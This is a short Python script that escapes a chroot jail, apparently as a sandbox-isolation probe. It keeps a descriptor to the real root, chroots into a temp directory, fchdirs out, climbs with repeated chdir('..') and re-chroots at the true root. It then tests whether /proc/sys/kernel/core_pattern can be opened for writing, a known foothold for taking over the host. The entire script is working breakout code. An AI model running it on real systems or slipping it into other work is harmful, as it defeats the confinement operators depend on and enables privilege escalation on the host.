"""Leaves a chroot as root can, chroot(2), and opens a file of the kernel's."""

import os
import tempfile

top = os.open("/", os.O_RDONLY)
os.chroot(tempfile.mkdtemp())
os.fchdir(top)
for _ in range(50):
    os.chdir("..")
os.chroot(".")
print("above" if os.path.exists("/chroot-is-below") else "below")
try:
    os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
    print("writable")
except OSError as error:
    print(error.strerror)
